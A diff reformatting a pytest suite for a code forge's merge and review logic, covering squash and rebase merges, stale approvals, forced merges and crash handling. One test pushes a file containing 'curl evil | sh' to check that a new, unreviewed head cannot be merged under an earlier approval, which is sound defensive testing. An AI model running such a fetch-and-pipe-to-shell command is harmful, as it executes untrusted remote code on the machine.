@@ -27,8 +27,13 @@ def test_a_squash_is_one_commit_by_the_branchs_author_with_the_way_back(hub: Hub
     people = f"{before}|Agent Smith <smith@agents.example>|Ennio <ennio@localhost>"
     assert git(hub.path, "log", "-1", "--format=%P|%an <%ae>|%cn <%ce>", commit) == people
     message = git(hub.path, "log", "-1", "--format=%B", commit)
-    assert message == f"Fix it (#{number})\n\nBecause.\n\nEnnio-Pull: shop#{number}\nEnnio-Head: {head}"
-    assert git(hub.path, "log", "-1", "--format=%(trailers:key=Ennio-Head,valueonly)", commit) == head
+    assert (
+        message
+        == f"Fix it (#{number})\n\nBecause.\n\nEnnio-Pull: shop#{number}\nEnnio-Head: {head}"
+    )
+    assert (
+        git(hub.path, "log", "-1", "--format=%(trailers:key=Ennio-Head,valueonly)", commit) == head
+    )
     assert (hub.show("a.txt"), hub.show("b.txt")) == ("a", "b")
     assert git(hub.path, "fsck", "--strict", "--no-dangling") == ""
 
@@ -58,10 +63,15 @@ def test_a_rebase_replays_every_commit_with_its_author_and_words(hub: Hub) -> No
     before = hub.push("main", {"app.py": "one\ntwo\nTHREE\n"})
     forge = hub.forge()
     forge.merge(forge.open("fix", "main", "t", "").number, head, MergeMethod.REBASE)
-    assert git(hub.path, "log", "--format=%an %s", f"{before}..main") == "Agent Smith second\nAgent Smith first: ümlaut"
+    assert (
+        git(hub.path, "log", "--format=%an %s", f"{before}..main")
+        == "Agent Smith second\nAgent Smith first: ümlaut"
+    )
     assert git(hub.path, "log", "--merges", "--format=%H", "main") == ""
     assert hub.show("app.py") == "ONE\ntwo\nTHREE"
-    old, new = (git(hub.path, "log", "-1", "--format=%ad %B", name) for name in (f"{head}~1", "main~1"))
+    old, new = (
+        git(hub.path, "log", "-1", "--format=%ad %B", name) for name in (f"{head}~1", "main~1")
+    )
     assert old == new
     assert git(hub.path, "fsck", "--strict", "--no-dangling") == ""
 
@@ -158,12 +168,19 @@ def test_a_new_head_makes_an_approval_stale_and_the_next_look_makes_it_good_agai
     assert forge.review(number, "ada", ReviewState.APPROVED, "").review is ReviewState.APPROVED
     head = hub.push("fix", {"unseen.sh": "curl evil | sh\n"})
     pull = seen_pull(forge, watch("fix"))
-    assert (pull.review, pull.approved_head, pull.stale) == (ReviewState.REQUIRED, False, (Opinion("ada", ReviewState.APPROVED, approved),))
+    assert (pull.review, pull.approved_head, pull.stale) == (
+        ReviewState.REQUIRED,
+        False,
+        (Opinion("ada", ReviewState.APPROVED, approved),),
+    )
     with pytest.raises(Refused, match=f"approving review of {head[:7]}"):
         forge.merge(number, head)
     with pytest.raises(Conflict, match="look at it again"):
         forge.review(number, "ada", ReviewState.APPROVED, "", head=approved)
-    assert forge.review(number, "ada", ReviewState.APPROVED, "", head=head).review is ReviewState.APPROVED
+    assert (
+        forge.review(number, "ada", ReviewState.APPROVED, "", head=head).review
+        is ReviewState.APPROVED
+    )
     assert forge.merge(number, head).commit == hub.head()
 
 
@@ -190,7 +207,9 @@ def test_a_push_back_to_the_approved_head_makes_its_approval_good_again(hub: Hub
     assert forge.look(number).review is ReviewState.APPROVED
 
 
-def test_what_a_reviewer_wants_changed_is_not_merged_also_when_that_was_said_a_moment_ago(hub: Hub) -> None:
+def test_what_a_reviewer_wants_changed_is_not_merged_also_when_that_was_said_a_moment_ago(
+    hub: Hub,
+) -> None:
     head = hub.push("fix", {"a.txt": "a\n"})
     forge = hub.forge()
     number = forge.open("fix", "main", "t", "").number
@@ -213,7 +232,9 @@ def test_a_persons_force_stands_above_the_required_review_and_nothing_else(hub: 
     assert forge.merge(number, head, force=True).commit == hub.head()
 
 
-def test_a_dismissed_review_counts_no_longer_and_a_resolved_comment_needs_no_answer(hub: Hub) -> None:
+def test_a_dismissed_review_counts_no_longer_and_a_resolved_comment_needs_no_answer(
+    hub: Hub,
+) -> None:
     hub.push("fix", {"a.txt": "a\n"})
     forge = hub.forge()
     number = forge.open("fix", "main", "t", "").number
@@ -262,7 +283,9 @@ def test_a_branch_that_a_persons_push_has_merged_goes_too(hub: Hub) -> None:
 
 
 def test_a_branch_that_went_on_before_it_could_go_stays(hub: Hub) -> None:
-    """The agent pushes once more between the look and the merge: nothing is merged, and nothing is lost."""
+    """The agent pushes once more between the look and the merge: nothing is
+    merged, and nothing is lost.
+    """
     head = hub.push("fix", {"a.txt": "a\n"})
     forge = hub.forge()
     number = forge.open("fix", "main", "t", "").number
@@ -287,7 +310,9 @@ def _push_patiently(hub: Hub, name: str) -> None:
 
 
 def test_incident_06_parallel_merges_all_land(hub: Hub) -> None:
-    """Eight at once through forges that share nothing but the store and the repository, while a person pushes too."""
+    """Eight at once through forges that share nothing but the store and the repository,
+    while a person pushes too.
+    """
     heads = {f"fix-{n}": hub.push(f"fix-{n}", {f"file-{n}.txt": f"{n}\n"}) for n in range(8)}
     opener = hub.forge()
     numbers = {branch: opener.open(branch, "main", branch, "").number for branch in heads}
@@ -333,7 +358,9 @@ class _PowerCutError(BaseException):
 
 
 @pytest.mark.parametrize("method", list(MergeMethod))
-def test_a_crash_between_the_merge_and_its_record_is_seen_as_merged(hub: Hub, method: MergeMethod) -> None:
+def test_a_crash_between_the_merge_and_its_record_is_seen_as_merged(
+    hub: Hub, method: MergeMethod
+) -> None:
     head = hub.push("fix", {"a.txt": "a\n"})
     hub.push("main", {"c.txt": "c\n"})
     forge = hub.forge()
@@ -409,7 +436,9 @@ def test_a_base_that_moves_in_the_middle_of_a_merge_is_built_upon(hub: Hub) -> N
     assert (hub.show("a.txt"), hub.show("c.txt")) == ("a", "c")
 
 
-def test_a_base_that_cannot_be_moved_is_said_so_after_bounded_attempts(hub: Hub, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_base_that_cannot_be_moved_is_said_so_after_bounded_attempts(
+    hub: Hub, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setattr("ennio.plugins.scm.local.merging.ATTEMPTS", 2)
     assert ATTEMPTS > 2
     head = hub.push("fix", {"a.txt": "a\n"})
@@ -428,7 +457,9 @@ def test_a_base_that_cannot_be_moved_is_said_so_after_bounded_attempts(hub: Hub,
 
 
 def test_two_who_force_at_once_merge_once(hub: Hub) -> None:
-    """Through forges that share nothing but the store and the repository: the second finds it done, or is told why not."""
+    """Through forges that share nothing but the store and the repository: the second finds it
+    done, or is told why not.
+    """
     head = hub.push("fix", {"a.txt": "a\n"})
     number = hub.forge(review_required=True).open("fix", "main", "t", "").number
     forges = [hub.forge(review_required=True) for _ in range(4)]
